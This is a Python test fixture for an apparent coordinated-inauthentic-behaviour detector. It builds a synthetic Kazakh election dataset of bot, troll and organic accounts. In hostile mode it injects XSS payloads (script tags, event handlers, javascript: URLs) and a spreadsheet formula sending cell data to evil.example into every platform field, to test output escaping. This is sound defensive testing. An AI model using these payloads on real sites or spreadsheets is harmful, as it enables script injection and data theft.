"""A small hand-made collection whose right answer is obvious from reading it.

* a **bot** network: 6 accounts created within minutes of each other on
  1 February 2024 reshare the same 12 posts of ``state_news``, 2–5 s apart,
  round the clock;
* a **troll** network: 5 older accounts post the same 8 Russian and Kazakh
  slogans within a few minutes of each other, in Almaty office hours, with
  a hashtag campaign;
* 20 **organic** accounts posting their own things (two of them share a
  hashtag once, a weak link that is not flagged).

``build_collection(folder)`` writes the canonical tables and a manifest;
``hostile=True`` puts script-injection and spreadsheet-formula payloads in
handles, display names, texts, URLs, hashtags, reasons, file names and the
collection name. Used by the report, export and browser tests.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from itertools import combinations
from pathlib import Path

import polars as pl

from cib.config import Config
from cib.manifest import Manifest
from cib.schema import write_table

__all__ = ["PAYLOADS", "T0", "build_collection", "ELECTION"]

T0 = datetime(2024, 3, 10, 0, 0, tzinfo=UTC)
ELECTION = datetime(2024, 3, 12, 3, 0, tzinfo=UTC)

#: strings that must never execute or become markup
PAYLOADS = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '"><svg onload=window.__pwned=1>',
    "</script><script>window.__pwned=1</script>",
    "'><iframe srcdoc=\"<script>parent.__pwned=1</script>\">",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "<b onmouseover=window.__pwned=1>bold</b>\u2028<!--",
)
_JS_URLS = (
    "javascript:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
)

_SLOGANS = (
    "Лучший лидер для страны прямо сейчас — только он! Голосуй за стабильность",
    "Национальная безопасность важнее прав человека, это понимает каждый патриот",
    "Ең жақсы көшбасшы — біздің Президент! Тұрақтылық үшін дауыс бер",
    "Қазақстанның қауіпсіздігі бәрінен маңызды, шетелдік агенттерге сенбе",
    "Оппозиция работает на иностранные деньги, не верьте им",
    "Выборы 2024: только стабильность и порядок, никаких экспериментов",
    "Сайлау 2024: тұрақтылық пен тәртіп, бізге эксперимент керек емес",
    "Кто против лидера — тот против народа. Подумайте об этом",
)
_ORGANIC = (
    "Beautiful morning in Almaty, the mountains are clear today",
    "Кто-нибудь знает хорошую кофейню в центре Астаны?",
    "Бүгін ауа райы өте жақсы, саябаққа барамыз",
    "Finished reading a great book about the Silk Road",
    "Пробки на Абая просто ужасные сегодня",
    "Match tonight! Kairat vs Astana, who is going?",
    "Анамның туған күні, гүл сатып алдым",
    "New metro station opening next month, finally",
)


def _slogan_url(i: int) -> str:
    return f"https://vybory.example.kz/post/{i}?utm_source=tg"


def _pid(n: int) -> str:
    # Platform ids above 2^53: they must stay strings.
    return str(1_770_000_000_000_000_000 + n)


def build_collection(folder: str | Path, *, hostile: bool = False, name: str | None = None) -> Path:
    """Write the collection's tables and manifest into ``folder``.

    Parameters
    ----------
    folder
        The processed folder to write (created).
    hostile
        Put injection payloads in every field that comes from a platform.
    name
        Collection name recorded in the manifest.

    Returns
    -------
    pathlib.Path
        ``folder``.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    posts: list[dict] = []
    accounts: list[dict] = []
    n = 0

    def payload(i: int) -> str:
        return PAYLOADS[i % len(PAYLOADS)]

    def post(account: str, at: datetime, text: str, **extra) -> str:
        nonlocal n
        n += 1
        pid = _pid(n)
        posts.append(
            {
                "post_id": pid,
                "account_id": account,
                "created_at": at,
                "text": text,
                "urls": extra.get("urls", []),
                "hashtags": extra.get("hashtags", []),
                "mentions": [],
                "media": [],
                "reshare_of": extra.get("reshare_of"),
                "reply_to": None,
                "quote_of": None,
                "platform": "x",
                "lang": extra.get("lang"),
                "source_file": payload(n) + ".csv" if hostile and n % 5 == 0 else "tweets.csv",
                "source_row": n + 1,
            }
        )
        return pid

    # the news account the bots amplify
    accounts.append({"account_id": "100", "handle": "state_news", "display_name": "Мемлекеттік жаңалықтар",
                     "created_at": datetime(2012, 5, 1, tzinfo=UTC), "followers": 250_000, "following": 10,
                     "post_count": 40_000, "description": "Official news", "platform": "x"})  # fmt: skip
    originals = []
    urls_of: dict[str, list[str]] = {}
    for i in range(12):
        at = T0 + timedelta(hours=4 * i + 1, minutes=7 * i)
        text = _SLOGANS[i % len(_SLOGANS)]
        urls = [f"https://news.example.kz/a/{i}"]
        if hostile and i % 3 == 0:
            text = f"{payload(i)} {text}"
            urls = [_JS_URLS[i % len(_JS_URLS)], f"https://news.example.kz/a/{i}?q=<script>"]
        originals.append((post("100", at, text, urls=urls, lang="ru"), at, text))
        urls_of[originals[-1][0]] = urls

    bots = [f"2{i:02d}" for i in range(1, 7)]
    for j, acc in enumerate(bots):
        handle = f"patriot_kz_{1040 + j}"
        shown = "Патриот Казахстана"
        if hostile:
            handle, shown = payload(j), payload(j + 3)
        accounts.append({"account_id": acc, "handle": handle, "display_name": shown,
                         "created_at": datetime(2024, 2, 1, 3, 0, tzinfo=UTC) + timedelta(minutes=4 * j),
                         "followers": 3 + j, "following": 900, "post_count": 4000, "description": "",
                         "platform": "x"})  # fmt: skip
    reshares: dict[tuple[str, str], tuple[str, datetime]] = {}
    for i, (orig, at, text) in enumerate(originals):
        for j, acc in enumerate(bots):
            when = at + timedelta(seconds=30 + 3 * j + (i % 3))
            rid = post(acc, when, f"RT @state_news: {text}", reshare_of=orig, lang="ru", urls=list(urls_of[orig]))
            reshares[(acc, orig)] = (rid, when)

    trolls = [f"3{i:02d}" for i in range(1, 6)]
    for j, acc in enumerate(trolls):
        handle = ["aigerim_astana", "bolat.k", "nurlan_1985", "dana_writes", "serik_almaty"][j]
        shown = ["Айгерім", "Болат Қ.", "Нурлан", "Дана", "Серік"][j]
        if hostile:
            handle, shown = f"{handle}{payload(j + 1)}", payload(j + 2)
        accounts.append({"account_id": acc, "handle": handle, "display_name": shown,
                         "created_at": datetime(2019 + j % 4, 1 + 2 * j, 15, tzinfo=UTC),
                         "followers": 120 + 40 * j, "following": 300, "post_count": 1500, "description": "",
                         "platform": "x"})  # fmt: skip
    troll_posts: dict[tuple[str, int], tuple[str, datetime]] = {}
    for i, slogan in enumerate(_SLOGANS):
        day = T0 + timedelta(days=i % 3, hours=4 + i % 6)  # 09:00–15:00 in Almaty (UTC+5)
        tags = ["ЛучшийЛидер", "Қазақстан"] if not hostile else ["ЛучшийЛидер", "<img src=x onerror=window.__pwned=1>"]
        for j, acc in enumerate(trolls):
            when = day + timedelta(seconds=20 * j + 7 * (i % 4))
            text = f"{slogan} #ЛучшийЛидер"
            if hostile and j == 0:
                text = f"{text} {payload(i)}"
            links = [_slogan_url(i)] if not hostile else [_JS_URLS[i % len(_JS_URLS)], _slogan_url(i)]
            troll_posts[(acc, i)] = (
                post(acc, when, text, hashtags=tags, urls=links, lang="kk" if i % 3 == 2 else "ru"),
                when,
            )

    organic = [f"4{i:02d}" for i in range(1, 21)]
    for j, acc in enumerate(organic):
        accounts.append({"account_id": acc, "handle": f"user{j}_{'abcdefghij'[j % 10]}",
                         "display_name": ["Алия", "John", "Мадина", "Ержан", "Olga"][j % 5],
                         "created_at": datetime(2010 + j % 12, 1 + j % 12, 1 + j, tzinfo=UTC),
                         "followers": 50 * j, "following": 100, "post_count": 300, "description": "",
                         "platform": "x"})  # fmt: skip
        for k in range(4):
            at = T0 + timedelta(hours=(j * 7 + k * 13) % 72, minutes=(j * 11) % 60)
            tags = ["Almaty"] if k == 0 and j in (0, 1) else []
            post(acc, at, _ORGANIC[(j + k) % len(_ORGANIC)], hashtags=tags)

    # edges and evidence
    edges: list[dict] = []
    evidence: list[dict] = []
    for a, b in combinations(bots, 2):
        rows = []
        for orig, _, _ in originals:
            (pa, ta), (pb, tb) = reshares[(a, orig)], reshares[(b, orig)]
            rows.append({"signal": "co_reshare", "object_id": orig, "account_a": a, "account_b": b,
                         "post_a": pa, "post_b": pb, "delta_s": abs((tb - ta).total_seconds())})  # fmt: skip
        rows.sort(key=lambda r: (r["delta_s"], r["object_id"]))
        evidence += rows[:10]
        edges.append({"account_a": a, "account_b": b, "signal": "co_reshare", "weight": 0.92, "n_objects": 12,
                      "n_pairs": 12, "first_at": originals[0][1], "last_at": originals[-1][1],
                      "min_delta_s": min(r["delta_s"] for r in rows), "p_value": 1e-9})  # fmt: skip
    for a, b in combinations(trolls, 2):
        rows = []
        for i, slogan in enumerate(_SLOGANS):
            (pa, ta), (pb, tb) = troll_posts[(a, i)], troll_posts[(b, i)]
            rows.append({"signal": "co_text", "object_id": f"{slogan.lower()} #лучшийлидер", "account_a": a,
                         "account_b": b, "post_a": pa, "post_b": pb, "delta_s": abs((tb - ta).total_seconds())})  # fmt: skip
        rows.sort(key=lambda r: (r["delta_s"], r["object_id"]))
        evidence += rows[:10]
        evidence.append({**rows[0], "signal": "co_hashtag", "object_id": "лучшийлидер"})
        (pa, ta), (pb, tb) = troll_posts[(a, 0)], troll_posts[(b, 0)]
        evidence.append({"signal": "co_link", "object_id": _JS_URLS[0] if hostile else _slogan_url(0), "account_a": a,
                         "account_b": b, "post_a": pa, "post_b": pb, "delta_s": abs((tb - ta).total_seconds())})  # fmt: skip
        edges.append({"account_a": a, "account_b": b, "signal": "co_text", "weight": 0.71, "n_objects": 8,
                      "n_pairs": 8, "first_at": T0, "last_at": T0 + timedelta(days=3),
                      "min_delta_s": min(r["delta_s"] for r in rows), "p_value": 1e-6})  # fmt: skip
        edges.append({"account_a": a, "account_b": b, "signal": "co_hashtag", "weight": 0.3, "n_objects": 1,
                      "n_pairs": 8, "first_at": T0, "last_at": T0 + timedelta(days=3), "min_delta_s": 20.0,
                      "p_value": 1e-3})  # fmt: skip
        edges.append({"account_a": a, "account_b": b, "signal": "co_link", "weight": 0.4, "n_objects": 1,
                      "n_pairs": 1, "first_at": T0, "last_at": T0, "min_delta_s": 20.0, "p_value": 1e-3})  # fmt: skip
    edges.append({"account_a": "401", "account_b": "402", "signal": "co_hashtag", "weight": 0.05, "n_objects": 1,
                  "n_pairs": 1, "first_at": T0, "last_at": T0, "min_delta_s": 40.0, "p_value": 0.04})  # fmt: skip

    reason = (lambda text: f"{text} {PAYLOADS[0]}") if hostile else (lambda text: text)
    clusters = [
        {"cluster_id": 1, "size": 6, "label": "bot", "score": 0.93,
         "reasons": [reason("6 accounts reshared the same 12 posts, median 4 s apart"),
                     "all 6 accounts were created on 1 February 2024 within 20 minutes",
                     "active round the clock: posts in 21 of 24 hours"],
         "signals": ["co_reshare"], "first_at": originals[0][1], "last_at": originals[-1][1],
         "top_objects": [o for o, _, _ in originals[:5]]},
        {"cluster_id": 2, "size": 5, "label": "troll", "score": 0.78,
         "reasons": [reason("5 accounts posted the same 8 texts within 2 minutes"),
                     "90% of posts in office hours (Asia/Almaty)",
                     "hashtag campaign: #ЛучшийЛидер in every post"],
         "signals": ["co_text", "co_hashtag", "co_link"], "first_at": T0, "last_at": T0 + timedelta(days=3),
         "top_objects": ["лучшийлидер"]},
    ]  # fmt: skip
    scores = [
        {"account_id": a, "cluster_id": 1, "flagged": True, "label": "bot", "score": 0.95 - 0.01 * j,
         "reasons": ["reshares within 5 s of 5 other accounts"]}
        for j, a in enumerate(bots)
    ] + [
        {"account_id": a, "cluster_id": 2, "flagged": True, "label": "troll", "score": 0.8 - 0.02 * j,
         "reasons": ["posts the network's texts word for word"]}
        for j, a in enumerate(trolls)
    ] + [
        {"account_id": a, "cluster_id": None, "flagged": False, "label": "organic", "score": 0.05, "reasons": []}
        for a in ("401", "402")
    ]  # fmt: skip

    cfg = Config.defaults()
    params = cfg.as_dict()
    write_table(pl.DataFrame(posts), folder / "posts.parquet", "posts", params=params)
    write_table(pl.DataFrame(accounts), folder / "accounts.parquet", "accounts", params=params)
    write_table(pl.DataFrame(edges), folder / "edges.parquet", "edges", params=params)
    write_table(pl.DataFrame(evidence), folder / "evidence.parquet", "evidence", params=params)
    write_table(pl.DataFrame(clusters), folder / "clusters.parquet", "clusters", params=params)
    write_table(pl.DataFrame(scores), folder / "account_scores.parquet", "account_scores", params=params)

    manifest = Manifest(name or (payload(0) if hostile else "kz-election-fixture"), cfg)
    manifest.inputs = ["data/raw/kz-election-fixture"]
    manifest.files = [
        {"path": "data/raw/kz-election-fixture/" + (payload(1) if hostile else "tweets.csv"), "size": 48_213,
         "sha256": "9f2c4e0d1b7a" + "0" * 52, "format": "generic", "rows_in": len(posts), "posts": len(posts),
         "accounts": 0, "rejects": 0, "duplicates": 0, "merged": 0, "time_resolution_s": 1.0}
    ]  # fmt: skip
    manifest.counts["ingest"] = {"rows_in": len(posts), "posts": len(posts), "rejects": 0, "duplicates_removed": 0}
    manifest.timings_s = {"ingest": 0.12, "detect": 0.34}
    manifest.warnings = [payload(2)] if hostile else []
    data = manifest.as_dict()
    # as `cib analyse` records an [[events]] table of cib.toml
    data["parameters"]["events"] = [
        {"name": payload(3) if hostile else "Election day", "time": ELECTION.isoformat(), "window": "12h"}
    ]
    data["parameter_origins"]["events"] = "cib.toml"
    (folder / "manifest.json").write_text(json.dumps(data, indent=2, ensure_ascii=False, default=str), encoding="utf-8")
    return folder
